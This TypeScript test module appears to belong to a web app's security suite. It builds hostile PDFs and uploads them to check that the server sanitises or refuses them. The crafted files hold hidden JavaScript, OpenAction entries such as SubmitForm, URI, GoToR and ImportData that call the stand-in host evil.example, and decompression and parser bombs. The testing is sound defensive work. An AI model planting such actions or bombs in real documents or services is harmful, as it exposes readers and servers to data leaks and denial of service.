import { makePdf, pageWith, pdfStream, rawPdfStream } from "#tests/pdf/make-pdf.ts";
import type { AttackOptions, AttackRow } from "./attack.ts";
import { longestWaitDuring, sendIdea } from "./requests/send.ts";

const MB = 1024 * 1024;
/** Of another request meanwhile: the file is read in a thread of its own. */
const WAIT_MAX_MS = 500;

const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
const hidden = (stream: Buffer) =>
  makePdf({ ...pageWith("Uma ideia", stream), catalogue: "/OpenAction 10 0 R" });
const onOpening = (action: string) =>
  makePdf({ ...pageWith("Uma ideia"), catalogue: `/OpenAction << ${action} >>` });

interface HostilePdf {
  what: string;
  make: () => Buffer;
  before: string;
  /** 201: its page is stored without what it hid. */
  status: 201 | 400;
  short?: true;
}

const PASSED = "stored as it was";
const files: HostilePdf[] = [
  {
    what: "a script in an object stream without a type",
    make: () => hidden(pdfStream("/N 1 /First 5", `10 0 ${script}`)),
    before: PASSED,
    status: 201,
    short: true,
  },
  {
    what: "a script in an object stream with a predictor",
    make: () =>
      hidden(pdfStream("/Type /ObjStm /N 1 /First 5 /DecodeParms << /Predictor 12 >>", `10 0 ${script}`)),
    before: PASSED,
    status: 201,
  },
  {
    what: "SubmitForm",
    make: () => onOpening("/S /SubmitForm /F (https://evil.example/)"),
    before: PASSED,
    status: 201,
  },
  { what: "URI", make: () => onOpening("/S /URI /URI (https://evil.example/)"), before: PASSED, status: 201 },
  {
    what: "GoToR",
    make: () => onOpening("/S /GoToR /F (//evil.example/share) /D [0 /Fit]"),
    before: PASSED,
    status: 201,
  },
  {
    what: "GoToE",
    make: () => onOpening("/S /GoToE /T << /R /C /N (x) >> /D [0 /Fit]"),
    before: PASSED,
    status: 201,
  },
  {
    what: "ImportData",
    make: () => onOpening("/S /ImportData /F (https://evil.example/)"),
    before: PASSED,
    status: 201,
  },
  {
    what: "a password",
    make: () => makePdf({ trailer: "/Encrypt 9 0 R" }),
    before: "refused",
    status: 400,
    short: true,
  },
  {
    what: "a bomb of 400 MB as the page",
    make: () => makePdf({ objects: [pdfStream("", Buffer.alloc(400 * MB))], page: "/Contents 4 0 R" }),
    before: "refused",
    status: 400,
  },
  {
    what: "a bomb of 100 MB as objects",
    make: () =>
      makePdf({
        objects: [pdfStream("/Type /ObjStm /N 1 /First 5", Buffer.alloc(100 * MB))],
        page: "/Contents 10 0 R",
      }),
    before: "refused",
    status: 400,
  },
  {
    what: "200,000 streams inside streams",
    make: () =>
      makePdf({ objects: [rawPdfStream("", Buffer.from(">>stream\n\x78\x9c".repeat(200_000), "latin1"))] }),
    before: "24 s of processor",
    status: 201,
  },
  {
    what: "objects that never end",
    make: () => makePdf({ objects: [Buffer.from("7 0 obj\n<< /A [\n".repeat(200_000))] }),
    before: "not measured",
    status: 201,
  },
];

/** Files that act when a reviewer opens them, or cost their reader much. What comes out of each is in `clean-pdf.test.ts`. */
export async function attack({ url, short }: AttackOptions): Promise<AttackRow[]> {
  const rows: AttackRow[] = [];
  for (const { what, make, before, status, short: inShort } of files) {
    if (short && !inShort) continue;
    const file = make();
    const { result, longest } = await longestWaitDuring(url, () => sendIdea(url, { file }));
    const fate = result.status === 201 ? "its page alone is stored" : `refused with ${result.status}`;
    rows.push({
      tried: `a PDF with ${what}`,
      before,
      now: `${fate} in ${result.ms} ms; others waited ${longest} ms`,
      passed: result.status === status && longest < WAIT_MAX_MS,
    });
  }
  return rows;
}
